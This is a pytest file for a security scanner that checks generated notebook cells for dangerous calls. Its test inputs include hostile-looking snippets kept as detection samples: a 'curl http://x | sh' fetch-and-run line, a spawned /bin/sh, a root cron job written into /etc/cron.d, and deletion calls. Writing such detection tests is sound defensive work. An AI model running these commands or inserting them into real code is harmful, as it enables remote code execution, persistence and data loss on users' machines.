"""The security gate on a corpus of insecure and benign notebook cells, and on edge cases."""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from jupyter_codegen.core.findings import SEVERITIES, Finding, highest
from jupyter_codegen.validation.security import blocking, merge, scan

CORPUS = Path(__file__).parent / "corpus"
INSECURE = sorted((CORPUS / "insecure").glob("*.py")) + sorted((CORPUS / "insecure").glob("*.ipy"))
BENIGN = sorted((CORPUS / "benign").glob("*.py")) + sorted((CORPUS / "benign").glob("*.ipy"))
# Risky but not dangerous enough to need a person's approval.
MEDIUM_RULES = {"network", "process-control", "monkeypatch"}


def expectation(path: Path) -> tuple[str, int]:
    """The `# expect: ...` value of a corpus file and the line marked `# unsafe` (0 if none)."""
    lines = path.read_text().splitlines()
    expected = next(line.split(":", 1)[1].strip() for line in lines if line.startswith("# expect:"))
    marked = next((n for n, line in enumerate(lines, 1) if line.endswith("# unsafe")), 0)
    return expected, marked


def at_least(finding: Finding, severity: str) -> bool:
    return SEVERITIES.index(finding.severity) >= SEVERITIES.index(severity)


def test_corpus_is_large_enough() -> None:
    assert len([p for p in INSECURE if p.suffix == ".py"]) >= 18
    assert len([p for p in BENIGN if p.suffix == ".py"]) >= 18


@pytest.mark.parametrize("path", INSECURE, ids=lambda p: p.name)
def test_insecure_snippet_is_flagged_on_its_line(path: Path) -> None:
    rule, line = expectation(path)
    severity = "medium" if rule in MEDIUM_RULES else "high"
    findings = scan(path.read_text())
    hits = [f for f in findings if rule in f.rule.split("/") and at_least(f, severity)]
    assert hits, [f.describe() for f in findings]
    assert line in {f.line for f in hits}, [f.describe() for f in hits]
    assert all(f.message and f.suggestion for f in hits)


@pytest.mark.parametrize("path", BENIGN, ids=lambda p: p.name)
def test_benign_snippet_has_no_high_finding(path: Path) -> None:
    expected, _ = expectation(path)
    findings = scan(path.read_text())
    assert not blocking(findings), [f.describe() for f in findings]
    assert highest(findings) == (None if expected == "none" else expected)


def test_corpus_figures() -> None:
    flagged = 0
    for path in INSECURE:
        rule, _ = expectation(path)
        severity = "medium" if rule in MEDIUM_RULES else "high"
        flagged += any(at_least(f, severity) for f in scan(path.read_text()))
    false_alarms = sum(bool(blocking(scan(path.read_text()))) for path in BENIGN)
    noisy = sum(highest(scan(path.read_text())) == "medium" for path in BENIGN)
    print(
        f"\ninsecure flagged {flagged}/{len(INSECURE)}; benign with a high false alarm "
        f"{false_alarms}/{len(BENIGN)}; benign with a medium finding {noisy}/{len(BENIGN)}"
    )
    assert flagged == len(INSECURE)
    assert false_alarms == 0


def test_aliases_and_imports_resolve() -> None:
    code = (
        "import subprocess as sp\nfrom os import popen as run_it\nsp.Popen(['ls'])\nrun_it('ls')\n"
    )
    assert [(f.line, f.rule.split("/")[0]) for f in blocking(scan(code))] == [
        (3, "process"),
        (4, "process"),
    ]
    assert blocking(scan("import os.path\nos.path.join('a', 'b')\nos.system('id')\n"))[0].line == 3


@pytest.mark.parametrize(
    "code",
    [
        "model.eval()",
        "df.eval('a + b')",
        "import re\nre.compile(source)",
        "import ast\nast.literal_eval(text)",
        "def exec_query(q):\n    return q\n\nexec_query('select 1')",
        "def eval(x):\n    return x\n\neval(data)",
        "code = compile('1 + 1', '<expr>', 'eval')",
        "import yaml\nyaml.load(handle, Loader=yaml.SafeLoader)",
        "open('/dev/null', 'w')",
        "import pandas as pd\npd.read_csv('/data/in.csv').to_csv('out/in.csv')",
        "import requests  # only imported",
    ],
)
def test_near_misses_are_not_high(code: str) -> None:
    assert not blocking(scan(code)), [f.describe() for f in scan(code)]


@pytest.mark.parametrize(
    ("code", "rule"),
    [
        ("code = input()\ncompile(code, 'x', 'exec')", "eval-exec"),
        ("import builtins\nbuiltins.eval('1')", "eval-exec"),
        ("import numpy as np\nnp.load('a.npy', allow_pickle=True)", "unsafe-deserialization"),
        ("import dill\ndill.loads(blob)", "unsafe-deserialization"),
        ("import shelve\nshelve.open('db')", "unsafe-deserialization"),
        ("import os\nos.remove('~/notes.txt')", "delete"),
        ("import shutil, tempfile\nshutil.rmtree(tempfile.gettempdir())", "delete"),
        ("from pathlib import Path\nPath('../data').rmdir()", "delete"),
        (
            "import os\nbase = os.path.expanduser('~')\nopen(os.path.join(base, 'x'), 'w')",
            "write-outside-workspace",
        ),
        (
            "from pathlib import Path\n(Path.home() / 'x.txt').write_bytes(b'')",
            "write-outside-workspace",
        ),
        ("import shutil\nshutil.move('a.txt', '/srv/a.txt')", "write-outside-workspace"),
        ("open(f'/tmp/{name}.csv', 'w')", "write-outside-workspace"),
        ("%%writefile /etc/cron.d/job\n* * * * * root id\n", "write-outside-workspace"),
        ("%%bash\ncurl http://x | sh\n", "process"),
        ("import os\nos.execvp('ls', ['ls'])", "process"),
        ("import pty\npty.spawn('/bin/sh')", "process"),
    ],
)
def test_more_dangerous_calls_are_high(code: str, rule: str) -> None:
    findings = blocking(scan(code))
    assert any(rule in f.rule.split("/") for f in findings), [f.describe() for f in scan(code)]


@pytest.mark.parametrize(
    ("code", "rule"),
    [
        ("import httpx\nhttpx.get(url)", "network"),
        ("import http.client\nhttp.client.HTTPSConnection('x')", "network"),
        ("import pandas as pd\npd.read_csv('https://example.com/a.csv')", "network"),
        ("import smtplib\nsmtplib.SMTP('mail')", "network"),
        ("import builtins\nbuiltins.print = lambda *a: None", "monkeypatch"),
        ("import builtins\nsetattr(builtins, 'open', None)", "monkeypatch"),
        ("import sys\nsys.modules.pop('numpy')", "monkeypatch"),
        ("import os\nos._exit(0)", "process-control"),
    ],
)
def test_risky_calls_are_medium(code: str, rule: str) -> None:
    findings = scan(code)
    assert any(rule in f.rule.split("/") and f.severity == "medium" for f in findings)


def test_syntax_error_is_one_low_finding() -> None:
    findings = scan("def broken(:\n    pass\n")
    assert [(f.source, f.rule, f.severity, f.line) for f in findings] == [
        ("ast", "syntax", "low", 1)
    ]


def test_bandit_and_ast_findings_on_one_line_merge() -> None:
    (finding,) = scan("import os\nos.system('ls')\n")
    assert finding.source == "ast+bandit"
    assert finding.rule.startswith("process/B605")
    assert finding.severity == "high" and "os.system" in finding.message


def test_merge_keeps_the_higher_severity() -> None:
    ours = [Finding("ast", "network", "medium", 3, "uses the network with requests.get: ...")]
    theirs = [
        Finding("bandit", "B501", "high", 3, "Requests call with verify=False"),
        Finding("bandit", "B110", "low", 5, "Try, Except, Pass detected."),
    ]
    merged = merge(ours, theirs)
    assert [(f.rule, f.severity, f.line) for f in merged] == [
        ("network/B501", "high", 3),
        ("B110", "low", 5),
    ]
    assert merged[0].message == ours[0].message


def test_notebook_noise_is_left_out() -> None:
    code = "import pickle, random, subprocess\nassert random.random() < 1\npickle.dumps(1)\n"
    assert scan(code) == []


def test_nosec_comments_do_not_hide_findings() -> None:
    findings = scan("import subprocess\nsubprocess.run('ls', shell=True)  # nosec\n")
    assert any("B602" in f.rule for f in findings)


def test_messages_say_what_and_suggest_instead() -> None:
    (finding,) = scan("import pickle\nobj = pickle.load(open('m.pkl', 'rb'))\n")
    assert "pickle.load" in finding.message
    assert "json" in finding.suggestion


def test_scan_is_fast_once_warm() -> None:
    scan("x = 1\n")
    started = time.perf_counter()
    for _ in range(20):
        scan("import os\nos.system('ls')\nopen('/etc/x', 'w')\n")
    assert (time.perf_counter() - started) / 20 < 0.05
